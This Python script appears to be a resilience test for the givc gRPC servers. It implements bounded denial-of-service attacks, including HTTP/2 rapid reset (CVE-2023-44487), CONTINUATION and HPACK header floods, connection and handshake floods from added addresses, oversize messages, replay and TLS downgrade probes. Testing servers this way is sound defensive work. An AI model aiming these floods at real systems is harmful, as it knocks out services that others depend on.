# SPDX-License-Identifier: GPL-2.0-or-later
"""What a hostile guest does to a server of givc: python3 attack.py ATTACK admin|agent ADDRESS PORT DIRECTORY SECONDS. Runs in a
guest of a fleet, beside h2raw.py, with the certificates in DIRECTORY; bounded in count and in time. Prints what became of it."""
import collections
import contextlib
import itertools
import select
import socket
import ssl
import subprocess
import sys
import time
import typing

import h2raw
from h2raw import END_HEADERS, END_STREAM, frame, grpc_headers, grpc_message, hpack


def field(number, data):
    """Of a message: text, bytes, or another message."""
    return bytes([number << 3 | 2]) + (bytes([len(data)]) if len(data) < 128 else bytes([len(data) & 127 | 128, len(data) >> 7])) + data


def methods(text):
    """PACKAGE.Service: Method Method…, one service a line."""
    lines = (line.split(':') for line in text.strip().splitlines())
    return tuple(f'/{service.strip()}/{method}' for service, names in lines for method in names.split())


# What rules decide about a context as large as fits into one frame: a set, in an order that takes long to sort.
CONTEXT = b'{"a": [%s]}' % b','.join(b'%d' % (i * 7919 % 3001) for i in range(3000))
DECIDE = '/access.AccessService/Decide', field(1, b'x') + field(2, b'y') + field(3, b'z') + field(4, CONTEXT)


class Target(typing.NamedTuple):
    methods: tuple
    query: tuple  # one call that is answered at once, and its request
    watches: tuple  # likewise, of streams that do not end
    upload: str  # takes a message of 4 MB


TARGETS = {
    'admin': Target(methods("""
        admin.AdminService: QueryList Watch GetUnitStatus RegisterService StartVM StartService StartApplication PauseApplication
        admin.AdminService: ResumeApplication StopApplication Poweroff Reboot Suspend Wakeup SetLocale SetTimezone
        admin.AdminService: ListGenerations SetGeneration NotifyUser NoSuchMethod
        admin.FleetService: ManageUnit ListUnits WatchUnit ReadLogs Decide
        access.AccessService: Decide WatchDecisions"""),
                    query=('/admin.AdminService/QueryList', b''),
                    watches=(('/admin.AdminService/Watch', b''),),
                    upload='/admin.AdminService/StartService'),
    'agent': Target(methods("""
        systemd.UnitControlService: StartApplication StartUnit StopUnit KillUnit FreezeUnit UnfreezeUnit GetUnitStatus MonitorUnit
        systemd.UnitWatchService: WatchUnits
        systemd.UnitManageService: ManageUnit ListUnits
        stats.StatsService: GetStats GetSysinfo
        logs.LogsService: ReadLogs
        locale.LocaleClient: LocaleSet TimezoneSet
        grpc.health.v1.Health: Check Watch
        exec.Exec: RunCommand
        access.AccessService: Decide WatchDecisions"""),
                    query=('/systemd.UnitControlService/GetUnitStatus', field(1, b'microvm@app-vm.service')),
                    watches=(('/systemd.UnitWatchService/WatchUnits', b''), ('/grpc.health.v1.Health/Watch', b''),
                             ('/logs.LogsService/ReadLogs', field(1, b'givc-ghaf-host.service') + b'\x18\x01'),
                             ('/systemd.UnitControlService/MonitorUnit', field(1, b'microvm@app-vm.service'))),
                    upload='/systemd.UnitControlService/StartApplication'),
}


class Attacker:
    def __init__(self, target, address, port, directory, seconds):
        self.target = TARGETS[target]
        self.where, self.directory = (address, int(port)), directory
        self.end = time.monotonic() + float(seconds)

    def going(self):
        return time.monotonic() < self.end

    def connect(self, source=None):
        return socket.create_connection(self.where, timeout=2, source_address=source and (source, 0))

    def addresses(self, what):
        """As many as this machine likes to have, of its own network. what: 'add' or 'del' of ip-address(8)."""
        network = self.where[0].rpartition('.')[0]
        names = [f'{network}.{number}' for number in range(50, 250)]
        subprocess.run(['ip', '-batch', '-'], input=''.join(f'address {what} {name}/24 dev host0\n' for name in names),
                       check=True, encoding='utf-8')
        return names

    def context(self, certificate=True, version=None):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols(['h2'])
        if certificate:
            context.load_cert_chain(f'{self.directory}/cert.pem', f'{self.directory}/key.pem')
        if version:
            context.minimum_version = context.maximum_version = version
        return context

    def http2(self, *settings):
        connection = h2raw.Connection(self.context().wrap_socket(self.connect()), timeout=5)
        connection.open(*settings)
        return connection

    def flood(self, connection, blocks):
        """Sends until it is cut off, or the time is over; reads nothing that it does not have to."""
        try:
            for block in blocks:
                if not self.going():
                    return 'still there'
                connection.send(block)
        except (h2raw.Closed, OSError):
            return 'cut off'
        return 'done'

    # --- one for each attack

    def nothing(self):
        """What this machine's own noise is."""
        time.sleep(max(0, self.end - time.monotonic()))
        return 'done'

    def connections(self):
        """10 000, of which those that are let stay do."""
        held, refused = collections.deque(), 0
        for _ in range(10_000):
            try:
                held.append(self.connect())
            except OSError:
                refused += 1
            if len(held) > 500:
                held.popleft().close()
        return f'{10_000 - refused} connected'

    def half_open(self):
        """Handshakes that begin and do not go on, all the time, from many addresses."""
        held, sources = [], itertools.cycle(self.addresses('add'))
        while self.going():
            with contextlib.suppress(OSError):
                held.append(self.connect(next(sources)))
                held[-1].sendall(b'\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03' + bytes(40))
            if len(held) > 300:
                held.pop(0).close()
            time.sleep(0.001)  # faster, and who comes would have to wait for it to be accepted
        self.addresses('del')
        return 'done'

    def handshakes(self):
        """Whole ones, many at a time, and nothing after them. Each is waited for: who hangs up earlier spares the server the
        judging."""
        held, n = collections.deque(), 0
        while held or self.going():
            with contextlib.suppress(OSError):
                if self.going():
                    held.append(self.context().wrap_socket(self.connect()))
            if len(held) > 30 or not self.going():
                with contextlib.suppress(OSError, IndexError), held.popleft() as session:
                    n += bool(session.recv(1))
        return f'{n} handshakes'

    def slow_watch(self):
        """Watches on many connections, none of which is read, with a window for nothing."""
        held = []
        with contextlib.suppress(h2raw.Closed, OSError):
            for _ in range(20):
                held.append(self.http2((h2raw.INITIAL_WINDOW_SIZE, 0)))
                for stream, (path, message) in zip(range(1, 401, 2), itertools.cycle(self.target.watches)):
                    held[-1].request(stream, grpc_message(message), grpc_headers(path))
        while self.going():
            time.sleep(0.1)
        return f'{len(held)} connections'

    def pour(self, connection, data):
        """Sends and reads as it goes. Whether it could."""
        try:
            return connection.flood([data]) is None
        except (h2raw.Closed, OSError):
            return False

    def methods(self):
        """Every method, with a request of nothing and two of nonsense, as fast as it goes, again when it is cut off."""
        n = 0
        while self.going():
            with contextlib.suppress(h2raw.Closed, OSError), self.http2() as connection:
                stream, standing = -1, True
                while standing and self.going():
                    blocks = []
                    for path in self.target.methods:
                        for data in (b'', b'\x0a\x03abc', b'\xff\xff\xff'):
                            stream += 2
                            headers = hpack(*grpc_headers(path))
                            blocks += [frame(h2raw.HEADERS, END_HEADERS, stream, headers),
                                       frame(h2raw.DATA, END_STREAM, stream, grpc_message(data))]
                    standing = self.pour(connection, b''.join(blocks))
                    n += len(blocks) // 2
        return f'{n} calls'

    def queries(self):
        """One call again and again, on eight connections at once."""
        return self.calls(*self.target.query)

    def questions(self):
        """The same, of one that takes the server's time."""
        return self.calls(*DECIDE)

    def pulses(self):
        """Calls that take the server's time, on sixty connections at once, then nothing: who is not busy for long is not known
        to be."""
        request, n = hpack(*grpc_headers(DECIDE[0])), 0
        with contextlib.ExitStack() as stack:
            connections = [stack.enter_context(self.http2()) for _ in range(60)]
            for stream in range(1, 1_000_001, 2):
                for connection in connections:
                    connection.send(frame(h2raw.HEADERS, END_HEADERS, stream, request),
                                    frame(h2raw.DATA, END_STREAM, stream, grpc_message(DECIDE[1])))
                for connection in connections:
                    n += connection.receive_response(stream)[0]['grpc-status'] == '0'
                if not self.going():
                    break
                time.sleep(0.25)  # the attacker's pace
        return f'{n} calls'

    def calls(self, path, message):
        block, n = hpack(*grpc_headers(path)), 0
        while self.going():
            with contextlib.suppress(h2raw.Closed, OSError), contextlib.ExitStack() as stack:
                connections = [stack.enter_context(self.http2()) for _ in range(8)]
                for stream in range(1, 1_000_001, 2):
                    request = (frame(h2raw.HEADERS, END_HEADERS, stream, block) +
                               frame(h2raw.DATA, END_STREAM, stream, grpc_message(message)))
                    if not self.going() or not all([self.pour(connection, request) for connection in connections]):
                        break
                    n += len(connections)
        return f'{n} calls'

    def again_and_again(self, blocks):
        """A flood, on a new connection as soon as it is cut off. What comes is read, or it would be lost in the end."""
        cut = 0
        while self.going():
            with contextlib.suppress(h2raw.Closed, OSError), self.http2() as connection:
                while self.going():
                    if not self.pour(connection, blocks):
                        cut += 1
                        break
        return f'{cut} times cut off'

    def rapid_reset(self):
        """CVE-2023-44487."""
        block = hpack(*grpc_headers(self.target.query[0]))
        return self.again_and_again(
            b''.join(frame(h2raw.HEADERS, END_HEADERS, s, block) + h2raw.rst_stream(s) for s in range(1, 8001, 2)))

    def headers(self):
        """100 MB of a header block that does not end."""
        with self.http2() as connection:
            connection.send(frame(h2raw.HEADERS, 0, 1, hpack(*grpc_headers())))
            piece = frame(h2raw.CONTINUATION, 0, 1, hpack(('h', 'x' * 16000)))
            return self.flood(connection, (piece for _ in range(100_000_000 // len(piece))))

    def continuations(self):
        """Header blocks in pieces of nothing (CVE-2024-27316)."""
        return self.again_and_again(frame(h2raw.HEADERS, 0, 1, hpack(*grpc_headers())) + frame(h2raw.CONTINUATION, 0, 1) * 10_000)

    def header_bombs(self):
        """One byte stands for a header of 4 KB that was sent before, 60 000 times in each call (RFC 7541, 7.3)."""
        bomb = b'\x40' + h2raw.hpack(('bomb', 'x' * 4000))[1:]
        count = 0
        while self.going():
            with contextlib.suppress(h2raw.Closed, OSError), self.http2() as connection:
                for stream in range(1, 2001, 2):
                    block = hpack(*grpc_headers(self.target.query[0])) + (bomb if stream == 1 else b'') + b'\xbe' * 60_000
                    if not self.going() or not self.pour(connection, frame(h2raw.HEADERS, END_HEADERS | END_STREAM, stream, block)):
                        break
                    count += 1
        return f'{count} calls'

    def pings(self):
        """Frames that carry nothing, of every kind."""
        return self.again_and_again((frame(h2raw.PING, 0, 0, bytes(8)) + h2raw.settings() +
                                     frame(h2raw.PRIORITY, 0, 1, bytes(4) + b'\x10')) * 1000)

    def frames(self):
        """Those that are read and go to waste: of types that there are not, and windows."""
        return self.again_and_again((frame(0xFA, 0, 0, b'') + h2raw.window_update(0, 1)) * 3000)

    def names(self):
        """Units of its own, more than there is room for."""
        state, count = field(4, b'active') + field(5, b'running'), 0
        with contextlib.suppress(h2raw.Closed, OSError), self.http2() as connection:
            headers = hpack(*grpc_headers('/admin.AdminService/RegisterService'))
            while count < 5000 or (self.going() and count < 20_000):
                count += 1
                request = grpc_message(field(1, b'unit-%d.service' % count) + field(2, b'givc-app-vm.service') + b'\x18\x0d' +
                                       field(5, state))
                if not self.pour(connection, frame(h2raw.HEADERS, END_HEADERS, 2 * count + 1, headers) +
                                 frame(h2raw.DATA, END_STREAM, 2 * count + 1, request)):
                    break
        return f'{count} units'

    def oversize(self):
        """Messages that say they are 4 GiB, and 16 connections of messages of 4 MB, none of which ends."""
        with contextlib.ExitStack() as stack:
            connections = [stack.enter_context(self.http2()) for _ in range(16)]
            for connection in connections:
                connection.request(1, grpc_message(b'x' * 100, length=0xFFFFFFFF), grpc_headers(self.target.query[0]))
                for stream in range(3, 23, 2):
                    connection.request(stream, grpc_message(b'', length=4_000_000), grpc_headers(self.target.upload), end=False)
            while self.going():
                for connection in connections:
                    for stream in range(3, 23, 2):
                        with contextlib.suppress(h2raw.Closed, OSError):
                            connection.send(frame(h2raw.DATA, 0, stream, bytes(16384)))
                time.sleep(0.01)  # the peer's pace, not a wait for anything
        return 'done'

    def replay(self):
        """A whole session as it went over the wire, again."""
        recorded = []
        with self.connect() as raw:
            incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
            session = self.context().wrap_bio(incoming, outgoing)

            def step(function, *arguments):
                done = False
                while not done:
                    try:
                        function(*arguments)
                        done = True
                    except ssl.SSLWantReadError:
                        pass
                    if outgoing.pending:
                        recorded.append(outgoing.read())
                        raw.sendall(recorded[-1])
                    if not done:
                        incoming.write(raw.recv(65536))

            step(session.do_handshake)
            step(session.write, h2raw.PREFACE + h2raw.settings() + frame(
                h2raw.HEADERS, END_HEADERS | END_STREAM, 1, hpack(*grpc_headers(self.target.query[0]))))
            step(session.read, 1)
        for _ in range(50):
            with contextlib.suppress(OSError), self.connect() as raw:
                for part in recorded:
                    raw.sendall(part)
                raw.shutdown(socket.SHUT_WR)
                while raw.recv(65536):
                    pass
        return f'{len(recorded)} parts recorded'

    def tls12(self):
        return self._shake(self.context(version=ssl.TLSVersion.TLSv1_2))

    def downgrade(self):
        """A ClientHello of TLS 1.0 to 1.2 without supported_versions, and SSL 2's."""
        answers = []
        for hello in (b'\x16\x03\x01\x00\x2f\x01\x00\x00\x2b\x03' + bytes([minor]) + bytes(32) + b'\x00\x00\x04\xc0\x2b\xc0\x2c\x01\x00'
                      for minor in (1, 2, 3)):
            with self.connect() as raw:
                raw.sendall(hello)
                answers.append(raw.recv(100)[:1])
        return 'accepted' if b'\x16' in answers else 'refused'

    def renegotiation(self):
        """A second ClientHello in a connection that stands, in clear: TLS 1.3 has no renegotiation (RFC 8446, 4.1.2)."""
        session = self.context().wrap_socket(self.connect())
        session.sendall(h2raw.PREFACE + h2raw.settings())
        session.recv(1)
        with socket.socket(fileno=session.detach()) as raw:
            raw.settimeout(5)
            raw.sendall(b'\x16\x03\x03\x00\x2f\x01\x00\x00\x2b\x03\x03' + bytes(32) + b'\x00\x00\x04\x13\x01\x13\x02\x01\x00')
            return self._until_closed(raw)

    def no_certificate(self):
        return self._shake(self.context(certificate=False))

    def wrong_certificate(self):
        return self._shake(self.context())

    def strangers(self):
        """The same again and again."""
        n = 0
        while self.going():
            n += self.wrong_certificate() == 'refused'
        return f'{n} times refused'

    def _shake(self, context):
        """TLS 1.3: a client has done its part before the server has judged it. What counts is whether it is answered."""
        try:
            with self.connect() as raw, context.wrap_socket(raw) as session:
                session.sendall(h2raw.PREFACE + h2raw.settings())
                return 'accepted' if session.recv(1) else 'refused'
        except OSError:
            return 'refused'

    @staticmethod
    def _until_closed(raw):
        with contextlib.suppress(ConnectionError):
            while select.select([raw], [], [], 5)[0]:
                if not raw.recv(65536):
                    return 'refused'
            return 'still there'
        return 'refused'


print(getattr(Attacker(*sys.argv[2:]), sys.argv[1])())
